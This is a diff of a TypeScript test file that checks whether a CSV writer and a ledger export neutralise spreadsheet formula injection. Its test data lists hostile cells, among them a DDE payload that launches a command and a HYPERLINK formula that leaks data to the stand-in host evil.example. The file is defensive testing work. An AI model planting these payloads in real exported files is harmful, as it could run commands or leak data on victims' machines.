@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { afterEach, describe, expect, it } from 'vitest';
 import { csvCell, csvText, type CsvColumn } from '../../engine/formats/csv-write';
-import { example, testService, waitForRun, type TestService } from '../test-helpers';
+import { disposeIfCreated, example, testService, waitForRun, type TestService } from '../test-helpers';
 
 /** Cells a spreadsheet would run (issue 12): two from the attack, then OWASP's other starts. */
 const HOSTILE = [`-1+1+cmd|' /C calc'!A0`, `-2+3+HYPERLINK("http://evil.example/?leak")`, '=1+1', '+1+1', '@SUM(A1)', '\t=1', '\r=1', '-5'];
@@ -14,7 +14,7 @@ describe('the shared CSV writer', () => {
 
   it('writes every formula-like text cell as quoted text that opens as text, whatever it looks like', () => {
     const text = csvText(cols, HOSTILE.map((t) => ({ t, n: '-12.50' })));
-    const back = parse(text, { columns: true }) as { text: string; n: string }[];
+    const back = parse<{ text: string; n: string }>(text, { columns: true });
     expect(back.map((r) => r.text)).toEqual(HOSTILE.map((t) => `'${t}`));
     // The app's own numbers stay numbers (a spreadsheet sums them).
     expect(back.every((r) => r.n === '-12.50')).toBe(true);
@@ -32,7 +32,7 @@ describe('the shared CSV writer', () => {
 
 describe('ledger CSV export', () => {
   let s: TestService;
-  afterEach(async () => s?.dispose());
+  afterEach(async () => disposeIfCreated(s));
 
   it('neutralises formulas from the program, the event set and a review reason', async () => {
     s = testService();
@@ -44,9 +44,9 @@ describe('ledger CSV export', () => {
     await waitForRun(s, runId);
     const first = (await s.call('replay.ledger', { runId, limit: 1 })).rows[0];
     expect(first).toBeDefined();
-    await s.call('rewards.review', { runId, rewardIds: [first!.id], decision: 'hold', reason: HOSTILE[1] as string });
+    await s.call('rewards.review', { runId, rewardIds: [first!.id], decision: 'hold', reason: HOSTILE[1] });
     const csv = await s.call('replay.ledgerCsv', { runId });
-    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
+    const rows = parse<Record<string, string>>(csv.text, { columns: true });
     expect(rows.length).toBeGreaterThan(0);
     expect(rows.every((r) => r.description === `'${HOSTILE[0]}`)).toBe(true);
     expect(rows.find((r) => r.id === first!.id)?.reviewReason).toBe(`'${HOSTILE[1]}`);
